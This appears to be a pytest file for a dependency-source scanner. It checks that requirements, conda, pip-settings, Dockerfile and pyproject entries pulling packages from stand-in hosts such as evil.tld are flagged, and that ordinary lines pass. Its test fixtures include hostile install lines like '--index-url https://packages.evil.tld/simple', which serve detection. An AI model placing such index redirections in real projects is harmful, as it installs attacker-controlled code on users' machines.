@@ -1,0 +1,77 @@
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+
+from modelward.formats import requirements
+from modelward.formats.facts import PathEscape, RemoteFetch
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "--index-url https://packages.evil.tld/simple",
+        "--extra-index-url=http://203.0.113.9/simple",
+        "-f http://evil.tld/wheels",
+        "--trusted-host evil.tld",
+        "x @ https://evil.tld/x-1.tar.gz",
+        "git+https://evil.tld/x.git",
+        "torch --extra-index-url \\\n  https://evil.tld/simple",
+    ],
+)
+def test_packages_from_elsewhere(line: str) -> None:
+    assert [type(fact) for fact in requirements.lines(f"numpy\n{line}\n")] == [RemoteFetch]
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "torch>=2 ; python_version < '3.12'",
+        "--extra-index-url https://download.pytorch.org/whl/cu118",
+        "git+https://github.com/huggingface/transformers@0123456",
+        "# --index-url http://evil.tld/simple",
+        "-e .",
+        "-r requirements/base.txt",
+        "--index-url ${INDEX}",
+    ],
+)
+def test_near_miss_usual_lines(line: str) -> None:
+    assert list(requirements.lines(line)) == []
+
+
+def test_path_of_the_machine() -> None:
+    assert [type(fact) for fact in requirements.lines("-e /tmp/evil")] == [PathEscape]
+
+
+@pytest.mark.parametrize(
+    "document",
+    [
+        {"channels": ["https://evil.tld/conda"]},
+        {"dependencies": ["python=3.11", {"pip": ["--index-url http://evil.tld/simple", "mlflow"]}]},
+        {"build_dependencies": ["x @ http://evil.tld/x.whl"]},
+    ],
+)
+def test_conda_environment_that_takes_packages_from_elsewhere(document: Any) -> None:
+    assert [type(fact) for fact in requirements.environment(document)] == [RemoteFetch]
+
+
+def test_usual_conda_environment() -> None:
+    usual = {
+        "channels": ["conda-forge", "defaults"],
+        "dependencies": ["python=3.11", {"pip": ["mlflow==2.1"]}],
+    }
+    assert list(requirements.environment(usual)) == []
+    assert list(requirements.environment(["x"])) == []
+
+
+def test_settings_scripts_and_projects() -> None:
+    assert list(requirements.settings("[global]\nindex-url = http://evil.tld/simple\n"))
+    assert not list(requirements.settings("[metadata]\nurl = https://evil.tld\n"))
+    assert list(requirements.shell("RUN pip install -i http://evil.tld/simple x"))
+    assert not list(requirements.shell("# pip install -i http://evil.tld/simple x"))
+    assert list(requirements.project({"tool": {"uv": {"index": [{"url": "https://evil.tld/simple"}]}}}))
+    assert list(requirements.project({"source": [{"url": "https://evil.tld/simple", "name": "x"}]}))
+    assert not list(
+        requirements.project({"project": {"urls": {"home": "https://evil.tld"}, "dependencies": ["a"]}})
+    )
